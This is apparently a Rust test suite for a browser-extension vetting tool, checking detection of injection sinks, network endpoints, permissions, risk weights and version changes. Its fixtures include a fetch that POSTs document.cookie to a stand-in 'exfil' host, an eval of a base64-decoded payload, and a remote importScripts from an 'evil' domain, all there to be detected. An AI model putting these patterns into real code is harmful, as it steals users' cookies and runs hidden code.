use super::*;

fn caps(manifest: &str, files: &[(&str, &str)]) -> Capabilities {
    let m = vetter_manifest::parse_manifest(manifest.as_bytes()).ok();
    let inputs = files.iter().map(|(p, t)| InputFile {
        path: p,
        bytes: t.as_bytes(),
    });
    analyze_version(m.as_ref(), inputs, &LibraryIndex::empty())
}

const MANIFEST: &str = r#"{"manifest_version": 2, "name": "t", "version": "1.0",
    "permissions": ["storage", "cookies", "https://api.example.com/*"]}"#;

#[test]
fn sinks_are_found_at_their_lines_and_literals_are_not_sinks() {
    let js = "el.innerHTML = '<b>fixed</b>';\n\
              el.innerHTML = data;\n\
              el.outerHTML += `<i>${name}</i>`;\n\
              eval(code);\n\
              window.eval('1');\n\
              new Function('return 1');\n\
              setTimeout('tick()', 10);\n\
              setTimeout(tick, 10);\n\
              document.write(x);\n\
              el.insertAdjacentHTML('beforeend', html);\n\
              el.insertAdjacentHTML('beforeend', '<hr>');\n\
              browser.tabs.executeScript({code: 'alert(1)'});\n\
              browser.tabs.executeScript({file: 'x.js'});\n\
              importScripts('https://cdn.evil.example/x.js');\n\
              import(url);\n\
              WebAssembly.instantiate(bytes);\n\
              browser.runtime.connectNative('app');\n";
    let c = caps(MANIFEST, &[("bg.js", js)]);
    let got: Vec<(SinkKind, u32)> = c.sinks.iter().map(|s| (s.kind, s.at.line)).collect();
    assert_eq!(
        got,
        [
            (SinkKind::HtmlAssignment, 2),
            (SinkKind::HtmlAssignment, 3),
            (SinkKind::Eval, 4),
            (SinkKind::Eval, 5),
            (SinkKind::FunctionConstructor, 6),
            (SinkKind::StringTimer, 7),
            (SinkKind::DocumentWrite, 9),
            (SinkKind::HtmlInsertion, 10),
            (SinkKind::InjectedCode, 12),
            (SinkKind::RemoteScript, 14),
            (SinkKind::DynamicScript, 15),
            (SinkKind::WebAssembly, 16),
            (SinkKind::NativeMessaging, 17),
        ]
    );
    assert_eq!(c.sinks[0].code, "el.innerHTML = data");
}

#[test]
fn endpoints_name_their_host_and_how_they_are_reached() {
    let js = "fetch('https://api.example.com/v1/items?x=1');\n\
              const ws = new WebSocket(`wss://live.example.net/socket/${id}`);\n\
              xhr.open('POST', 'http://203.0.113.9:8080/collect');\n\
              fetch(base + '/x');\n\
              fetch(browser.runtime.getURL('data.json'));\n\
              fetch('data/local.json');\n\
              const doc = 'see https://docs.example.org/help for help';\n\
              const ns = 'http://www.w3.org/2000/svg';\n\
              navigator.sendBeacon('https://beacon.example.com/b', data);\n";
    let c = caps(MANIFEST, &[("bg.js", js)]);
    let got: Vec<(Option<&str>, EndpointVia, u32, bool)> = c
        .endpoints
        .iter()
        .map(|e| (e.host.as_deref(), e.via, e.at.line, e.ip))
        .collect();
    assert_eq!(
        got,
        [
            (Some("api.example.com"), EndpointVia::Fetch, 1, false),
            (Some("live.example.net"), EndpointVia::WebSocket, 2, false),
            (Some("203.0.113.9"), EndpointVia::Xhr, 3, true),
            (None, EndpointVia::Fetch, 4, false),
            (Some("docs.example.org"), EndpointVia::Literal, 7, false),
            (Some("beacon.example.com"), EndpointVia::Beacon, 9, false),
        ]
    );
    let covered: Vec<(&str, bool)> = c
        .hosts
        .iter()
        .map(|h| (h.host.as_str(), h.covered_by.is_some()))
        .collect();
    assert!(covered.contains(&("api.example.com", true)));
    assert!(covered.contains(&("live.example.net", false)));
}

#[test]
fn permissions_are_weighed_against_the_code() {
    let js = "browser.storage.local.get('k');\nchrome.history.search({});\n\
              browser.webRequest.onBeforeRequest.addListener(f, {urls: ['<all_urls>']}, ['blocking']);\n";
    let manifest = r#"{"manifest_version": 2, "name": "t", "version": "1.0",
        "permissions": ["storage", "cookies", "activeTab", "webRequestBlocking"],
        "optional_permissions": ["history"]}"#;
    let c = caps(manifest, &[("bg.js", js)]);
    let status: Vec<(&str, PermissionStatus, u32)> = c
        .permissions
        .iter()
        .map(|p| (p.permission.as_str(), p.status, p.uses))
        .collect();
    assert_eq!(
        status,
        [
            ("storage", PermissionStatus::Used, 1),
            ("cookies", PermissionStatus::Unused, 0),
            ("activeTab", PermissionStatus::NotCheckable, 0),
            ("webRequestBlocking", PermissionStatus::Used, 1),
            ("history", PermissionStatus::OnlyOptional, 1),
            ("webRequest", PermissionStatus::Undeclared, 1),
        ]
    );
    let apis: Vec<&str> = c.apis.iter().map(|a| a.api.as_str()).collect();
    assert_eq!(
        apis,
        [
            "history.search",
            "storage.local",
            "webRequest.onBeforeRequest"
        ]
    );
}

#[test]
fn code_the_parser_refuses_is_read_by_tokens() {
    let js =
        "function (( {\n  el.innerHTML = html;\n  eval(x);\n  fetch('https://x.example.com/a')\n";
    let c = caps(MANIFEST, &[("broken.js", js)]);
    assert_eq!(c.token_read.len(), 1);
    let got: Vec<(SinkKind, u32)> = c.sinks.iter().map(|s| (s.kind, s.at.line)).collect();
    assert_eq!(got, [(SinkKind::HtmlAssignment, 2), (SinkKind::Eval, 3)]);
    assert_eq!(c.endpoints[0].host.as_deref(), Some("x.example.com"));
}

#[test]
fn the_delta_lists_what_is_new_and_what_is_gone() {
    let old = caps(
        MANIFEST,
        &[(
            "bg.js",
            "fetch('https://api.example.com/a');\nel.innerHTML = a;\n",
        )],
    );
    let new = caps(
        MANIFEST,
        &[(
            "bg.js",
            "// moved down\n\nfetch('https://api.example.com/a');\nel.innerHTML = a;\n\
             fetch('https://exfil.example.net/c', {method: 'POST', body: document.cookie});\n\
             eval(atob(payload));\n",
        )],
    );
    let d = CapabilityDelta::between(&old, &new);
    let hosts: Vec<_> = d.endpoints.added.iter().map(|e| e.host.clone()).collect();
    assert_eq!(hosts, [Some("exfil.example.net".to_owned())]);
    assert!(d.endpoints.removed.is_empty());
    let sinks: Vec<_> = d.sinks.added.iter().map(|s| (s.kind, s.at.line)).collect();
    assert_eq!(
        sinks,
        [(SinkKind::Eval, 6)],
        "a sink that only moved is not new"
    );
    assert_eq!(d.uncovered_hosts[0].host, "exfil.example.net");
    let names: Vec<&str> = d.new_risk.factors.iter().map(|f| f.name.as_str()).collect();
    assert!(names.contains(&"uses_eval_or_document_write"), "{names:?}");
    assert!(
        !d.old_risk
            .factors
            .iter()
            .any(|f| f.name == "uses_eval_or_document_write")
    );
}

#[test]
fn the_risk_weight_follows_amos_factors() {
    let manifest = r#"{"manifest_version": 2, "name": "t", "version": "1.0",
        "permissions": ["nativeMessaging"], "content_security_policy": "script-src 'self' https://cdn.example.com; object-src 'self'"}"#;
    // Indented, so that it does not read as minified.
    let js = "{\n  a.innerHTML = x;\n  b.innerHTML = y;\n  c.innerHTML = z;\n  eval(s);\n}\n";
    let page = "<script src=\"https://cdn.example.com/a.js\"></script>";
    let c = caps(manifest, &[("a.js", js), ("p.html", page)]);
    let weights: Vec<(&str, u32)> = c
        .risk
        .factors
        .iter()
        .map(|f| (f.name.as_str(), f.weight))
        .collect();
    assert_eq!(
        weights,
        [
            ("uses_eval_or_document_write", 50),
            ("uses_innerhtml", 70),
            ("uses_custom_csp", 90),
            ("uses_native_messaging", 100),
            ("uses_remote_scripts", 100),
        ]
    );
    assert_eq!(c.risk.weight, 410);
    assert!(
        c.endpoints
            .iter()
            .any(|e| e.via == EndpointVia::Csp && e.host.as_deref() == Some("cdn.example.com"))
    );
}

#[test]
fn eval_taken_as_a_value_and_writes_on_any_document_are_sinks() {
    let js = "window.eval = new Proxy(window.eval, {});\n\
              var indirect = eval;\n\
              iframeDocument.write(scriptTag(''));\n\
              log.write(x);\n";
    let c = caps(MANIFEST, &[("page.js", js)]);
    let got: Vec<(SinkKind, u32, u32)> = c
        .sinks
        .iter()
        .map(|s| (s.kind, s.at.line, s.at.column))
        .collect();
    assert_eq!(
        got,
        [
            (SinkKind::Eval, 1, 1),
            (SinkKind::Eval, 1, 25),
            (SinkKind::Eval, 2, 16),
            (SinkKind::DocumentWrite, 3, 1),
        ]
    );
}

#[test]
fn stylesheets_contact_what_they_load_not_what_their_comments_mention() {
    let css = "/* Theme by http://themes.example.com */\n\
               @import url(\"https://fonts.example.net/css?family=X\");\n\
               .a { background: url(https://img.example.org/bg.png) }\n\
               .b { background: url(icons/local.png) }\n";
    let c = caps(MANIFEST, &[("style.css", css)]);
    let got: Vec<(&str, u32)> = c
        .endpoints
        .iter()
        .map(|e| (e.host.as_deref().unwrap_or(""), e.at.line))
        .collect();
    assert_eq!(got, [("fonts.example.net", 2), ("img.example.org", 3)]);
}

#[test]
fn netmasks_and_version_numbers_are_not_hosts() {
    let js = "const masks = ['255.255.0.0', '10.0.0.0', '1.2.3', '01.02.03.04'];\n\
              const server = '203.0.113.7';\n";
    let c = caps(MANIFEST, &[("net.js", js)]);
    let hosts: Vec<&str> = c
        .endpoints
        .iter()
        .filter_map(|e| e.host.as_deref())
        .collect();
    assert_eq!(hosts, ["203.0.113.7"]);
}

#[test]
fn a_library_copy_that_became_modified_does_not_make_its_own_sinks_new() {
    let old = Capabilities {
        library_sinks: vec![Sink {
            kind: SinkKind::HtmlAssignment,
            code: "elem.innerHTML = value".into(),
            at: Location {
                path: "lib/jquery.js".into(),
                line: 6347,
                column: 8,
            },
        }],
        ..caps(MANIFEST, &[])
    };
    let injected = Sink {
        kind: SinkKind::Eval,
        code: "eval(x)".into(),
        at: Location {
            path: "lib/jquery.js".into(),
            line: 10,
            column: 1,
        },
    };
    let mut moved = old.library_sinks[0].clone();
    moved.at.line = 6348;
    let new = Capabilities {
        sinks: vec![injected.clone(), moved],
        ..caps(MANIFEST, &[])
    };
    let d = CapabilityDelta::between(&old, &new);
    assert_eq!(d.sinks.added, [injected]);
    assert!(d.sinks.removed.is_empty());
}
